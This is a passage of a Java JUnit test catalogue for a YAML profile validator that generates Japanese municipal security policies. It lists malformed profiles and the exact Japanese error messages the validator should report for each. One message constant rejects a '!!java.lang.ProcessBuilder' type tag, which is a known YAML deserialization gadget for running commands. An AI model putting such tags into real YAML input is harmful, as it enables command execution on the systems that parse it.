package jp.policygen.profile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The catalogue of bad profiles (issue "check: every profile mistake explained, and nothing a bad input can
 * break"). Each case is a profile with one mistake and the exact findings the user sees, in order, as
 * {@code file:line:column: エラー|警告: message}. A case whose findings are all warnings must still give a
 * profile; a case with an error must not.
 *
 * <p>The profiles are {@link TestProfiles#MINIMAL} with one change, whose lines are:
 * <pre>
 *  1 guideline: "2024-10"          10   security_officers: 各部局長
 *  2 municipality:                 11   security_managers: 各課室長
 *  3   name: 架空市                 12   system_managers: 各情報システム所管課室長
 *  4   kind: city                  13   committee: 架空市情報セキュリティ委員会
 *  5 policy:                       14   csirt: { name: 架空市CSIRT, lead: 情報政策課長 }
 *  6   effective: 2026-04-01       15   it_department: 総務部情報政策課
 *  7 organization:                 16 network:
 *  8   ciso: 副市長                 17   model: alpha
 *  9   chief_officer: 総務部長
 * </pre>
 * A representative subset also runs through {@code policygen generate}: exit status 2, the same messages on
 * the error stream, and the output folder exactly as it was.
 */
public class BadProfilesTest {

    /** One bad profile: a name for the report, its bytes, and every finding expected, in order. */
    public record Case(String name, byte[] bytes, List<String> expected) {
        public boolean hasErrors() {
            return expected.stream().anyMatch(s -> s.contains(": エラー: "));
        }

        @Override
        public String toString() {
            return name;
        }
    }

    static final String M = TestProfiles.MINIMAL;

    /** MINIMAL with {@code from} replaced by {@code to} (which must be there: a case must not test nothing). */
    static String with(String from, String to) {
        if (!M.contains(from)) {
            throw new IllegalArgumentException("not in MINIMAL: " + from);
        }
        return M.replaceFirst(Pattern.quote(from), java.util.regex.Matcher.quoteReplacement(to));
    }

    /** MINIMAL without the line holding {@code line}. */
    static String without(String line) {
        return with(line + "\n", "");
    }

    static Case bad(String name, String yaml, String... expected) {
        return new Case(name, yaml.getBytes(StandardCharsets.UTF_8), List.of(expected));
    }

    static Case bytes(String name, byte[] bytes, String... expected) {
        return new Case(name, bytes, List.of(expected));
    }

    static Case fixture(String name, String file, String... expected) {
        return new Case(name, resource(file), List.of(expected));
    }

    static byte[] resource(String file) {
        try (InputStream in = BadProfilesTest.class.getResourceAsStream("/bad-profiles/" + file)) {
            assertNotNull(in, "missing fixture " + file);
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static final String E = "test.yaml";

    static String err(int line, int column, String message) {
        return E + ":" + line + ":" + column + ": エラー: " + message;
    }

    static String warn(int line, int column, String message) {
        return E + ":" + line + ":" + column + ": 警告: " + message;
    }

    static String fileErr(String message) {
        return E + ": エラー: " + message;
    }

    static String fileWarn(String message) {
        return E + ": 警告: " + message;
    }

    static final String QUOTE = "値全体を \"…\" で囲んでください";
    static final String UNUSABLE = "文書に使えない文字のため、削除してください。";
    static final String SERVICE = "cloud:\n  services:\n    - { name: Xサービス, ismap: false, confidential: false, purpose: 会議 }\n";
    static final String TAG_PB = "型指定「!!java.lang.ProcessBuilder」は使えません。プロファイルには値だけを書きます。"
            + "「!!java.lang.ProcessBuilder」を削除してください。";
    static final String EDR = "model が beta のときは edr: true が必要です。β・β' モデルでは職員の端末がインターネット接続系に"
            + "置かれるため、ガイドラインは端末での不審な挙動の検知と対応（EDR）を求めています。network の中に「edr: true」と"
            + "書いてください。";
    static final String UTF16 = "UTF-16（Unicode）で保存されたファイルは読めません。メモ帳の「名前を付けて保存」で文字コードを"
            + "「UTF-8」にして保存し直してください。";

    /** Every case of the catalogue. */
    public static List<Case> catalogue() {
        List<Case> c = new ArrayList<>();

        // ---- YAML syntax -------------------------------------------------------------------------
        c.add(bad("unclosed double quote", with("name: 架空市", "name: \"架空市"),
                err(3, 9, "「\"」で始めた値が閉じられていません。値の終わりにも「\"」を書いてください（値の中に \" を書くときは \\\" とします）。")));
        c.add(bad("unclosed single quote", with("name: 架空市", "name: '架空市"),
                err(3, 9, "「'」で始めた値が閉じられていません。値の終わりにも「'」を書いてください（値の中に ' を書くときは '' とします）。")));
        c.add(bad("line indented deeper than its neighbour", with("  kind: city", "   kind: city"),
                err(4, 8, "ここに「:」は書けません。この行の字下げが前の行より深すぎないか確かめ、同じ階層の項目は同じ数の半角スペースで"
                        + "始めてください。値に「: 」を含むときは" + QUOTE + "。")));
        c.add(bad("line indented less than its neighbour", with("  kind: city", " kind: city"),
                err(4, 2, "字下げ（行頭の空白の数）がそろっていません。同じ階層の項目は同じ数の半角スペースで始めてください。")));
        c.add(bad("missing colon", with("  kind: city", "  kind city"),
                err(4, 3, "「項目名: 値」の「:」がありません。項目名のあとに半角の「: 」（コロンと空白）を書いてください。")));
        c.add(bad("missing colon after a section name", with("policy:\n", "policy\n"),
                err(5, 1, "「項目名: 値」の「:」がありません。項目名のあとに半角の「: 」（コロンと空白）を書いてください。")));
        c.add(bad("tab as indentation", with("  name: 架空市", "\tname: 架空市"),
                err(3, 1, "タブ文字は使えません。タブを半角スペースに置き換えてください（字下げは半角スペース2つずつ）。")));
        c.add(bad("tab after the colon", with("  name: 架空市", "  name:\t架空市"),
                err(3, 8, "タブ文字は使えません。タブを半角スペースに置き換えてください（字下げは半角スペース2つずつ）。")));
        // 全角 characters where YAML needs half-width ones: said at their own line and column, with the corrected line
        c.add(bad("全角コロン after a key", with("  name: 架空市", "  name：架空市"),
                err(3, 7, "項目名「name」のあとのコロンが全角の「：」です。半角の「:」に直し、値は「:」のあとに半角スペースを1つ置いて"
                        + "書いてください（正しくは「name: 架空市」）。")));
        c.add(bad("全角コロン and a space", with("  kind: city", "  kind： city"),
                err(4, 7, "項目名「kind」のあとのコロンが全角の「：」です。半角の「:」に直し、値は「:」のあとに半角スペースを1つ置いて"
                        + "書いてください（正しくは「kind: city」）。")));
        c.add(bad("全角コロン after a section name", with("municipality:", "municipality："),
                err(2, 13, "項目名「municipality」のあとのコロンが全角の「：」です。半角の「:」に直し、値は「:」のあとに半角スペースを"
                        + "1つ置いて書いてください（正しくは「municipality:」）。")));
        c.add(bad("全角コロン after a misspelt key", with("  name: 架空市", "  nmae：架空市"),
                err(3, 7, "項目名「nmae」のあとのコロンが全角の「：」です。半角の「:」に直し、値は「:」のあとに半角スペースを1つ置いて"
                        + "書いてください（正しくは「nmae: 架空市」）。")));
        c.add(bad("全角コロン where keys are indented by four spaces", with("  name: 架空市\n  kind: city", "    name: 架空市\n    kind：city"),
                err(4, 9, "項目名「kind」のあとのコロンが全角の「：」です。半角の「:」に直し、値は「:」のあとに半角スペースを1つ置いて"
                        + "書いてください（正しくは「kind: city」）。")));
        c.add(bad("全角コロン in { }", with("{ name: 架空市CSIRT", "{ name：架空市CSIRT"),
                err(14, 16, "項目名「name」のあとのコロンが全角の「：」です。半角の「:」に直し、値は「:」のあとに半角スペースを1つ置いて"
                        + "書いてください（正しくは「name: …」）。")));
        c.add(bad("全角スペース as indentation", with("  kind: city", "　kind: city"),
                err(4, 1, "行頭の字下げに全角スペース（「　」）があります。字下げは半角スペースだけで書きます。前の行に続けるなら、"
                        + "半角スペース2つのあとに「kind: city」と書いてください（同じ階層の項目とは字下げの幅をそろえます）。")));
        c.add(bad("全角スペース after half-width ones", with("  model: alpha", "  model: alpha\n  sanitization:\n  　- image-pdf"),
                err(19, 3, "行頭の字下げに全角スペース（「　」）があります。字下げは半角スペースだけで書きます。前の行に続けるなら、"
                        + "半角スペース4つのあとに「- image-pdf」と書いてください（同じ階層の項目とは字下げの幅をそろえます）。")));
        c.add(bad("全角スペース after the colon", with("  kind: city", "  kind:　city"),
                err(4, 8, "「kind:」のあとの空白が全角スペース（「　」）です。「:」のあとは半角スペースにしてください"
                        + "（正しくは「kind: city」）。")));
        c.add(bad("全角スペース before the colon", with("  ciso: 副市長", "  ciso　: 副市長"),
                err(8, 7, "項目名「ciso」のあとに全角スペース（「　」）があります。項目名と「:」の間の空白を削除してください"
                        + "（正しくは「ciso: 副市長」）。")));
        c.add(bad("a line of only 全角スペース", with("policy:\n", "\u3000\u3000\npolicy:\n"),
                err(5, 1, "全角スペース（「　」）だけの行があります。この行の全角スペースを削除して空行にしてください。")));
        c.add(bad("comment indented with a 全角スペース", with("policy:\n", "　# 施行日\npolicy:\n"),
                err(5, 1, "行頭の字下げに全角スペース（「　」）があります。字下げは半角スペースだけで書きます。前の行に続けるなら、"
                        + "半角スペース2つのあとに「# 施行日」と書いてください（同じ階層の項目とは字下げの幅をそろえます）。")));
        c.add(bad("全角 mistakes on two lines, each reported", with("  name: 架空市\n  kind: city", "  name：架空市\n　kind: city"),
                err(3, 7, "項目名「name」のあとのコロンが全角の「：」です。半角の「:」に直し、値は「:」のあとに半角スペースを1つ置いて"
                        + "書いてください（正しくは「name: 架空市」）。"),
                err(4, 1, "行頭の字下げに全角スペース（「　」）があります。字下げは半角スペースだけで書きます。前の行に続けるなら、"
                        + "半角スペース2つのあとに「kind: city」と書いてください（同じ階層の項目とは字下げの幅をそろえます）。")));
        c.add(bad("unclosed { }", with("lead: 情報政策課長 }", "lead: 情報政策課長"),
                err(14, 10, "「{」で始めた { … } が閉じられていません。同じ行の終わりに「}」を書いてください。")));
        c.add(bad("missing comma in { }", with("架空市CSIRT,", "架空市CSIRT"),
                err(14, 31, "「{ … }」の中の書き方が正しくありません。要素の間は「, 」で区切り、最後を「}」で閉じてください。"
                        + "値に , や : を含むときは" + QUOTE + "。")));
        c.add(bad("value starting with @", with("name: 架空市", "name: @架空市"),
                err(3, 9, "値の先頭に「@」は書けません。" + QUOTE + "（例: \"@…\"）。")));
        c.add(bad("text after a quoted value", with("name: 架空市", "name: \"架空市\" 役所"),
                err(3, 15, "ここに余分な文字があります。引用符で囲んだ値のあとには何も書けません。値全体を引用符の中に入れるか、"
                        + "この行の字下げを確かめてください。")));
        c.add(bad("two documents in one file", M + "---\n" + M,
                err(18, 1, "1つのファイルに書けるプロファイルは1つだけです。この「---」の行から後を削除するか、別のファイルに分けてください。")));
        c.add(bad("undefined alias", with("name: 架空市", "name: *架空"),
                err(3, 9, "別名「*架空」は定義されていません。プロファイルでは別名（& と *）を使わずに値をそのまま書いてください。"
                        + "値が * で始まるときは" + QUOTE + "。")));
        c.add(bad("text after the block scalar indicator",
                M + "overrides:\n  std.human.passwords:\n    replace: |本文\n      パスワードは15文字以上\n    reason: 規程\n",
                err(20, 15, "「|」や「>」のあとには何も書かず、次の行から字下げして本文を書いてください。")));

        // ---- unknown keys, at every level, with the nearest known key -----------------------------
        c.add(bad("unknown key at the top", with("policy:", "polcy:"),
                err(5, 1, "'polcy' は不明な項目です。'policy' ですか？")));
        c.add(bad("unknown key at the top, nothing near", "foo: 1\n" + M,
                err(1, 1, "'foo' は不明な項目です。最上位に書ける項目は guideline, municipality, policy, organization, network, "
                        + "cloud, features, overrides, parameters, law, procurement です。")));
        c.add(bad("unknown key in municipality", with("  kind: city", "  kind: city\n  staf: 1200"),
                err(5, 3, "'staf' は不明な項目です。'staff' ですか？")));
        c.add(bad("unknown key in municipality, nothing near", with("  kind: city", "  kind: city\n  zzzzzz: 1"),
                err(5, 3, "'zzzzzz' は不明な項目です。'municipality' の中に書ける項目は name, kind, code, head, staff です。")));
        c.add(bad("unknown key in policy", with("  effective: 2026-04-01", "  effective: 2026-04-01\n  adopton: 告示第1号"),
                err(7, 3, "'adopton' は不明な項目です。'adoption' ですか？")));
        c.add(bad("unknown key in organization", with("  ciso: 副市長", "  ciso: 副市長\n  cisco_advisor: 外部専門家"),
                err(9, 3, "'cisco_advisor' は不明な項目です。'ciso_advisor' ですか？")));
        c.add(bad("unknown key in csirt", with("lead: 情報政策課長", "leader: 情報政策課長"),
                err(14, 28, "'leader' は不明な項目です。'lead' ですか？")));
        c.add(bad("unknown key in network", with("  model: alpha", "  model: alpha\n  edr_: true"),
                err(18, 3, "'edr_' は不明な項目です。'edr' ですか？")));
        c.add(bad("unknown key in alpha_prime", with("model: alpha", "model: alpha-prime\n  alpha_prime:\n    kase: auth-only"),
                err(19, 5, "'kase' は不明な項目です。'case' ですか？")));
        c.add(bad("unknown key in cloud", M + "cloud:\n  goverment_cloud: true\n",
                err(19, 3, "'goverment_cloud' は不明な項目です。'government_cloud' ですか？")));
        c.add(bad("unknown key in a cloud service",
                M + "cloud:\n  services:\n    - { name: X, ismap: true, confidental: true, purpose: 会議 }\n",
                err(20, 31, "'confidental' は不明な項目です。'confidential' ですか？")));
        c.add(bad("unknown key in features", M + "features:\n  telwork: true\n",
                err(19, 3, "'telwork' は不明な項目です。'telework' ですか？")));
        c.add(bad("unknown key in a history entry",
                with("  effective: 2026-04-01", "  effective: 2026-04-01\n  history:\n    - { date: 2016-04-01, notes: 策定 }"),
                err(8, 27, "'notes' は不明な項目です。'note' ですか？")));
        c.add(bad("unknown key in an override", M + "overrides:\n  std.human.passwords:\n    replce: 本文\n    reason: 規程\n",
                err(20, 5, "'replce' は不明な項目です。'replace' ですか？")));

        // ---- wrong types ---------------------------------------------------------------------------
        c.add(bad("quoted string for a bool", with("  model: alpha", "  model: alpha\n  edr: \"true\""),
                err(18, 8, "'network.edr' には true か false を書いてください。引用符で囲んだ \"true\" は文字として読まれるため、"
                        + "引用符を外して true と書いてください。")));
        c.add(bad("Japanese word for a bool", with("  model: alpha", "  model: alpha\n  edr: はい"),
                err(18, 8, "'network.edr' には true か false を書いてください（「はい」は書けません）。使うなら true、使わないなら false です。")));
        c.add(bad("list for a string", with("name: 架空市", "name: [架空市]"),
                err(3, 9, "'municipality.name' には1行の文字を書いてください（一覧（- や [ … ]）は書けません）。")));
        c.add(bad("mapping for a string", with("ciso: 副市長", "ciso: { title: 副市長 }"),
                err(8, 9, "'organization.ciso' には1行の文字を書いてください（「項目名: 値」は書けません）。")));
        c.add(bad("mapping for a list", with("  effective: 2026-04-01", "  effective: 2026-04-01\n  scope: { 市長部局: true }"),
                err(7, 10, "'policy.scope' は一覧で書いてください（「scope:」の次の行から、各行を「- 」で始めて字下げします。例: - 市長部局）。")));
        c.add(bad("scalar for a list", with("model: alpha", "model: alpha\n  sanitization: text-extraction"),
                err(18, 17, "'network.sanitization' は一覧で書いてください（「sanitization:」の次の行から、各行を「- 」で始めて"
                        + "字下げします。例: [text-extraction, image-pdf]）。")));
        c.add(bad("bool for a string", with("ciso: 副市長", "ciso: yes"),
                err(8, 9, "'organization.ciso' には文字を書いてください。yes は真偽値（はい・いいえ）として読まれるため、文字として"
                        + "書くときは \"yes\" のように引用符で囲んでください。")));
        c.add(bad("staff zero", with("  kind: city", "  kind: city\n  staff: 0"),
                err(5, 10, "'municipality.staff' の 0 は範囲外です。1 以上 1000000 以下の整数を書いてください（例: 1200）。")));
        c.add(bad("staff beyond any integer", with("  kind: city", "  kind: city\n  staff: 99999999999"),
                err(5, 10, "'municipality.staff' の 99999999999 は範囲外です。1 以上 1000000 以下の整数を書いてください（例: 1200）。")));
        c.add(bad("staff negative", with("  kind: city", "  kind: city\n  staff: -5"),
                err(5, 10, "'municipality.staff' の -5 は範囲外です。1 以上 1000000 以下の整数を書いてください（例: 1200）。")));
        c.add(bad("staff in kanji", with("  kind: city", "  kind: city\n  staff: 千二百"),
                err(5, 10, "'municipality.staff' には「千二百」は書けません。1 以上 1000000 以下の整数を半角数字で書いてください（例: 1200）。")));
        c.add(bad("staff with a fraction", with("  kind: city", "  kind: city\n  staff: 12.5"),
                err(5, 10, "'municipality.staff' には「12.5」は書けません。1 以上 1000000 以下の整数を半角数字で書いてください（例: 1200）。")));
        c.add(bad("scalar for a section", with("network:\n  model: alpha", "network: alpha"),
                err(16, 10, "'network' には「alpha」は書けません。「network:」の次の行から、字下げして「項目名: 値」を書いてください（例: model: alpha）。")));
        c.add(bad("date without hyphens", with("2026-04-01", "20260401"),
                err(6, 14, "'policy.effective' の「20260401」は日付として読めません。2026-04-01 のように「年-月-日」で書いてください（和暦ではなく西暦で）。")));
        c.add(bad("bool for a date", with("2026-04-01", "true"),
                err(6, 14, "'policy.effective' には日付を 2026-04-01 のように「年-月-日」で書いてください（「true」は日付ではありません）。")));
        c.add(bad("date in wareki", with("2026-04-01", "令和8年4月1日"),
                err(6, 14, "'policy.effective' の「令和8年4月1日」は日付として読めません。2026-04-01 のように「年-月-日」で書いてください（和暦ではなく西暦で）。")));
        c.add(bad("date with a time", with("2026-04-01", "2026-04-01 10:00:00"),
                err(6, 14, "'policy.effective' の「2026-04-01 10:00:00」は日付として読めません。2026-04-01 のように「年-月-日」で書いてください（和暦ではなく西暦で）。")));
        c.add(bad("history entry as one line of text", with("  effective: 2026-04-01", "  effective: 2026-04-01\n  history:\n    - 2016-04-01 策定"),
                err(8, 7, "'policy.history' の各要素は「項目名: 値」の形で書いてください（例: { date: 2016-04-01, note: 策定 }）。"
                        + "「2016-04-01 策定」だけでは書けません。")));
        c.add(bad("sanitization item as a mapping", with("model: alpha", "model: alpha\n  sanitization: [ { image: pdf } ]"),
                err(18, 19, "'network.sanitization' の要素には「項目名: 値」は書けません。次のどれかを書いてください: "
                        + "text-extraction / image-pdf / sanitize / sandbox。")));
        c.add(bad("replace as a list", M + "overrides:\n  std.human.passwords:\n    replace: [本文]\n    reason: 規程\n",
                err(20, 14, "'overrides.std.human.passwords.replace' には文章を書いてください（「replace: |」と書き、次の行から字下げして本文を書きます）。")));

        // ---- missing required keys -------------------------------------------------------------------
        c.add(bad("missing municipality", with("municipality:\n  name: 架空市\n  kind: city\n", ""),
                err(1, 1, "必須項目 'municipality' がありません。行頭（字下げなし）に「municipality:」と書き、次の行から字下げして"
                        + "「name: 架空市」のように書いてください。")));
        c.add(bad("missing municipality.name", without("  name: 架空市"),
                err(3, 3, "必須項目 'municipality.name' がありません。'municipality' の中に「name: 架空市」のように書いてください。")));
        c.add(bad("missing municipality.kind", without("  kind: city"),
                err(3, 3, "必須項目 'municipality.kind' がありません。'municipality' の中に「kind: city」のように書いてください。")));
        c.add(bad("missing policy", without("policy:\n  effective: 2026-04-01"),
                err(1, 1, "必須項目 'policy' がありません。行頭（字下げなし）に「policy:」と書き、次の行から字下げして"
                        + "「effective: 2026-04-01」のように書いてください。")));
        c.add(bad("missing policy.effective", with("  effective: 2026-04-01", "  version: 第1版"),
                err(6, 3, "必須項目 'policy.effective' がありません。'policy' の中に「effective: 2026-04-01」のように書いてください。")));
        c.add(bad("missing organization", M.substring(0, M.indexOf("organization:")) + "network:\n  model: alpha\n",
                err(1, 1, "必須項目 'organization' がありません。行頭（字下げなし）に「organization:」と書き、次の行から字下げして"
                        + "「ciso: 副市長」のように書いてください。")));
        for (String[] k : new String[][] {{"ciso", "副市長"}, {"chief_officer", "総務部長"}, {"security_officers", "各部局長"},
                {"security_managers", "各課室長"}, {"system_managers", "各情報システム所管課室長"},
                {"committee", "架空市情報セキュリティ委員会"}, {"it_department", "総務部情報政策課"},
                {"csirt", "{ name: 架空市CSIRT, lead: 情報政策課長 }"}}) {
            c.add(bad("missing organization." + k[0], without("  " + k[0] + ": " + k[1]),
                    err(8, 3, "必須項目 'organization." + k[0] + "' がありません。'organization' の中に「" + k[0] + ": " + k[1]
                            + "」のように書いてください。")));
        }
        c.add(bad("missing organization.csirt.name", with("{ name: 架空市CSIRT, lead", "{ lead"),
                err(14, 10, "必須項目 'organization.csirt.name' がありません。'organization.csirt' の中に「name: 架空市CSIRT」のように書いてください。")));
        c.add(bad("missing organization.csirt.lead", with(", lead: 情報政策課長", ""),
                err(14, 10, "必須項目 'organization.csirt.lead' がありません。'organization.csirt' の中に「lead: 情報政策課長」のように書いてください。")));
        c.add(bad("missing network", M.substring(0, M.indexOf("network:")),
                err(1, 1, "必須項目 'network' がありません。行頭（字下げなし）に「network:」と書き、次の行から字下げして"
                        + "「model: alpha」のように書いてください。")));
        c.add(bad("missing network.model", with("  model: alpha", "  edr: true"),
                err(17, 3, "必須項目 'network.model' がありません。'network' の中に「model: alpha」のように書いてください。")));
        c.add(bad("missing a cloud service's ismap", M + "cloud:\n  services:\n    - { name: X, confidential: true, purpose: 会議 }\n",
                err(20, 7, "必須項目 'cloud.services.ismap' がありません。'cloud.services' の中に「ismap: true」のように書いてください。")));
        c.add(bad("missing a history entry's date", with("  effective: 2026-04-01", "  effective: 2026-04-01\n  history:\n    - { note: 策定 }"),
                err(8, 7, "必須項目 'policy.history.date' がありません。'policy.history' の中に「date: 2016-04-01」のように書いてください。")));
        c.add(bad("empty value of a required key", with("  name: 架空市", "  name:"),
                err(3, 3, "必須項目 'municipality.name' がありません。'municipality' の中に「name: 架空市」のように書いてください。")));

        // ---- values not in their list -----------------------------------------------------------------
        c.add(bad("kind not in its list", with("kind: city", "kind: ctiy"),
                err(4, 9, "'municipality.kind' に「ctiy」は書けません。次のどれかを書いてください: prefecture / designated-city / "
                        + "core-city / special-ward / city / town / village。'city' ですか？")));
        c.add(bad("model not in its list", with("model: alpha", "model: gamma"),
                err(17, 10, "'network.model' に「gamma」は書けません。次のどれかを書いてください: alpha / alpha-prime / beta / beta-prime。")));
        c.add(bad("case not in its list", with("model: alpha", "model: alpha-prime\n  alpha_prime:\n    case: file-exchang"),
                err(19, 11, "'network.alpha_prime.case' に「file-exchang」は書けません。次のどれかを書いてください: auth-only / "
                        + "no-file-import / file-exchange。'file-exchange' ですか？")));
        c.add(bad("form not in its list", with("  effective: 2026-04-01", "  effective: 2026-04-01\n  form: article"),
                err(7, 9, "'policy.form' に「article」は書けません。次のどれかを書いてください: outline / articles。'articles' ですか？")));
        c.add(bad("sanitization item not in its list", with("model: alpha", "model: alpha\n  sanitization: [text-extraction, pdf]"),
                err(18, 35, "'network.sanitization' に「pdf」は書けません。次のどれかを書いてください: text-extraction / image-pdf / "
                        + "sanitize / sandbox。")));
        c.add(bad("guideline not in its list", with("\"2024-10\"", "\"2024-04\""),
                err(1, 12, "'guideline' に「2024-04」は書けません。ガイドラインの版を \"2026-03\"（令和8年3月版）、\"2025-03\"（令和7年3月版）、"
                        + "\"2024-10\"（令和6年10月版）"
                        + "または \"2023-03\"（令和5年3月版）"
                        + "のように書いてください。")));

        // ---- cross-field rules of profile.md ------------------------------------------------------------
        c.add(bad("alpha-prime without alpha_prime", with("model: alpha", "model: alpha-prime"),
                err(17, 3, "model が alpha-prime のときは、network の中に「alpha_prime: { case: file-exchange }」のように接続の形"
                        + "（auth-only / no-file-import / file-exchange）を書いてください。α' はクラウドサービスの使い方によって"
                        + "必要な対策が変わるためです。")));
        c.add(bad("alpha_prime without its case", with("model: alpha", "model: alpha-prime\n  alpha_prime: { }"),
                err(18, 16, "必須項目 'network.alpha_prime.case' がありません。'network.alpha_prime' の中に「case: file-exchange」のように書いてください。")));
        c.add(bad("alpha_prime under alpha", with("model: alpha", "model: alpha\n  alpha_prime:\n    case: auth-only"),
                err(18, 3, "alpha_prime は model が alpha-prime のときだけ書けます（いまの model は alpha）。alpha_prime: の行と"
                        + "その下を削除するか、model: alpha-prime にしてください。")));
        c.add(bad("beta without edr", with("model: alpha", "model: beta"), err(17, 3, EDR)));
        c.add(bad("beta with edr false", with("model: alpha", "model: beta\n  edr: false"), err(18, 8, EDR)));
        c.add(bad("beta-prime without log_monitoring", with("model: alpha", "model: beta-prime\n  edr: true"),
                err(17, 3, "model が beta-prime のときは log_monitoring: true が必要です。β' モデルでは重要な業務システムも"
                        + "インターネット接続系に置かれるため、ガイドラインは全ての業務システムのログの収集と監視を求めています。"
                        + "network の中に「log_monitoring: true」と書いてください。")));
        c.add(bad("ismap false under alpha-prime", with("model: alpha", "model: alpha-prime\n  alpha_prime:\n    case: auth-only") + SERVICE,
                err(22, 29, "「Xサービス」は ISMAP クラウドサービスリストに登録されていません。α' モデルでローカルブレイクアウトにより"
                        + "接続できるのは ISMAP に登録されたサービスだけです。登録されたサービスに替えるか、このサービスを services "
                        + "から外してください。")));
        c.add(bad("ismap false under alpha (warning)", M + SERVICE,
                warn(20, 29, "「Xサービス」は ISMAP クラウドサービスリストに登録されていません。機密性２以上の情報を扱わせないか、"
                        + "安全性を個別に確認した記録を残してください。")));
        c.add(bad("override of a clause that does not exist", M + "overrides:\n  std.human.pasword:\n    omit: true\n    reason: 規程\n",
                err(19, 3, "'std.human.pasword' という条項は 2024-10 版にありません。'std.human.passwords' ですか？")));
        c.add(bad("override of a clause far from any", M + "overrides:\n  passwords:\n    omit: true\n    reason: 規程\n",
                err(19, 3, "'passwords' という条項は 2024-10 版にありません。条項IDの一覧は「policygen sections」で確かめられます。")));
        c.add(bad("override without reason (warning)", M + "overrides:\n  std.human.passwords:\n    omit: true\n",
                warn(19, 3, "'std.human.passwords' の変更に reason（変更の理由）がありません。改定の際に経緯が分かるよう"
                        + "「reason: 本市の規程に合わせるため」のように書いてください。")));
        c.add(bad("override with omit and append", M + "overrides:\n  std.human.passwords:\n    omit: true\n    append: 追記\n    reason: 規程\n",
                err(19, 3, "'std.human.passwords' に replace / omit / append が複数書かれています。1つの条項にはどれか1つだけを書いてください。")));
        c.add(bad("override with replace and append", M + "overrides:\n  std.human.passwords:\n    replace: 本文\n    append: 追記\n    reason: 規程\n",
                err(19, 3, "'std.human.passwords' に replace / omit / append が複数書かれています。1つの条項にはどれか1つだけを書いてください。")));
        c.add(bad("override with none of replace, omit, append", M + "overrides:\n  std.human.passwords:\n    reason: 規程\n",
                err(19, 3, "'std.human.passwords' に replace / omit / append のいずれもありません。本文を置き換えるなら replace: |、"
                        + "削るなら omit: true、追記するなら append: | を書いてください。")));
        c.add(bad("override with nothing under it", M + "overrides:\n  std.human.passwords:\n",
                err(19, 3, "'std.human.passwords' の下に、字下げして replace / omit / append のどれか1つと reason を書いてください"
                        + "（例: 「omit: true」と「reason: 庁外にサーバを設置しないため」）。")));
        c.add(bad("overrides as a list", M + "overrides:\n  - std.human.passwords\n",
                err(19, 3, "'overrides' の下には条項ID（std.human.passwords など）を「条項ID:」と書き、その下に字下げして "
                        + "replace / omit / append のどれか1つと reason を書いてください。")));
        c.add(bad("effective before the last history date (warning)", with("  effective: 2026-04-01",
                "  effective: 2020-04-01\n  history:\n    - { date: 2016-04-01, note: 策定 }\n    - { date: 2023-04-01, note: 改定 }"),
                warn(6, 14, "施行日（policy.effective: 2020-04-01）が改定履歴（policy.history）の最後の日付 2023-04-01 より前です。"
                        + "施行日を 2023-04-01 以後にするか、改定履歴の日付を確かめてください。")));
        c.add(bad("history not oldest first (warning)", with("  effective: 2026-04-01",
                "  effective: 2026-04-01\n  history:\n    - { date: 2023-04-01, note: 改定 }\n    - { date: 2016-04-01, note: 策定 }"),
                warn(9, 7, "改定履歴は古い順に並べてください（2016-04-01 が 2023-04-01 より後にあります）。")));
        // issue 25 item 8: 附則 and history data that would give a document contradicting itself
        c.add(bad("last revision of an amended rule before the effective day", with("  effective: 2026-04-01",
                "  effective: 2026-04-01\n  adoption: 訓令第12号\n  history:\n    - { date: 2016-04-01, note: 策定, adoption: 訓令第5号 }\n"
                        + "    - { date: 2025-04-01, note: 改定, adoption: 訓令第12号 }"),
                err(6, 14, "施行日（policy.effective: 2026-04-01）が改定履歴（policy.history）の最後の日付 2025-04-01 と違います。"
                        + "附則は改定履歴から作るため、表紙の施行日と最後の附則の日付が食い違います。今回の改定を改定履歴の最後に"
                        + "「- { date: 2026-04-01, note: 改定, adoption: 訓令第12号 }」のように書き加えるか、施行日を 2025-04-01 にしてください。")));
        c.add(bad("effective before the last revision of an amended rule", with("  effective: 2026-04-01",
                "  effective: 2025-04-01\n  history:\n    - { date: 2016-04-01, note: 策定, adoption: 訓令第5号 }\n"
                        + "    - { date: 2026-04-01, note: 改定, adoption: 訓令第12号 }"),
                err(6, 14, "施行日（policy.effective: 2025-04-01）が改定履歴（policy.history）の最後の日付 2026-04-01 より前です。"
                        + "施行日を 2026-04-01 以後にするか、改定履歴の日付を確かめてください。")));
        c.add(bad("history adoption without its kind", with("  effective: 2026-04-01",
                "  effective: 2026-04-01\n  history:\n    - { date: 2026-04-01, note: 改定, adoption: 第３号 }"),
                err(8, 47, "'policy.history.adoption' の「第３号」には例規の種類がありません。「訓令第３号」「告示第３号」「規程第３号」"
                        + "のように、種類を付けて書いてください。")));
        c.add(bad("policy adoption without its kind", with("  effective: 2026-04-01",
                "  effective: 2026-04-01\n  adoption: 第3号"),
                err(7, 13, "'policy.adoption' の「第3号」には例規の種類がありません。「訓令第3号」「告示第3号」「規程第3号」"
                        + "のように、種類を付けて書いてください。")));
        c.add(bad("history row twice", with("  effective: 2026-04-01",
                "  effective: 2026-04-01\n  history:\n    - { date: 2016-04-01, note: 策定, adoption: 訓令第5号 }\n"
                        + "    - { date: 2026-04-01, note: 改定, adoption: 訓令第12号 }\n"
                        + "    - { date: 2026-04-01, note: 令和6年10月版に準拠して改定, adoption: 訓令第12号 }"),
                err(10, 7, "改定履歴（policy.history）に 2026-04-01 の改定が2回書かれています（9行目と同じです）。1回だけ書いてください。")));
        c.add(bad("history version twice", with("  effective: 2026-04-01",
                "  effective: 2026-04-01\n  history:\n    - { date: 2026-04-01, note: 改定, version: 第2版 }\n"
                        + "    - { date: 2026-04-01, note: 改定, version: 第2版 }"),
                err(9, 7, "改定履歴（policy.history）に 2026-04-01 の改定が2回書かれています（8行目と同じです）。1回だけ書いてください。")));
        c.add(bad("adopted after the day it takes effect", with("  effective: 2026-04-01",
                "  effective: 2026-04-01\n  history:\n    - { date: 2026-04-01, note: 改定, adoption: 訓令第12号, adopted: 2026-04-10 }"),
